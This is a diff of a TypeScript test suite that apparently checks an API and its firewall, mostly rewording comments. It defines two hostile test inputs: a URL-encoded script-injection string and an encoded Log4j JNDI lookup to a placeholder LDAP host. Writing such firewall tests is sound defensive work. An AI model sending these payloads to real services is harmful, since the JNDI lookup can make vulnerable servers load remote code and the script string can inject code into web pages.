@@ -7,7 +7,7 @@ interface Answer {
   readonly headers: Headers
   readonly text: string
   readonly codes: readonly unknown[]
-  // biome-ignore lint/suspicious/noExplicitAny: whatever somebody answers
+  // biome-ignore lint/suspicious/noExplicitAny: any response
   readonly json: any
 }
 
@@ -37,7 +37,7 @@ const refused =
     headers.get('x-request-id') !== null &&
     headers.get('allow') === allow
 
-/** A step's name, its request, and what holds for the response. */
+/** A step's name, its request, and the condition for its response. */
 type Check = readonly [operation: string, call: () => Promise<Answer>, holds: (answer: Answer) => boolean]
 
 const isList = ({ status, json }: Answer): boolean => status === 200 && Array.isArray(json?.data?.products)
@@ -97,7 +97,7 @@ const paths = (baseUrl: string, key: Record<string, string>): Check[] => {
   ]
 }
 
-/** What a web page would have to fear and this API records. The firewall must let it pass wherever an id may stand. */
+/** Text that is dangerous in a web page, but valid in an id. The firewall must accept it wherever an id may be. */
 const lookingLikeAttack = encodeURIComponent('http://192.0.2.1/<script>alert(1)</script>/a.log')
 /** A lookup of Log4j, encoded: ${jndi:ldap://192.0.2.1/a}. */
 const knownAttack = '%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D'
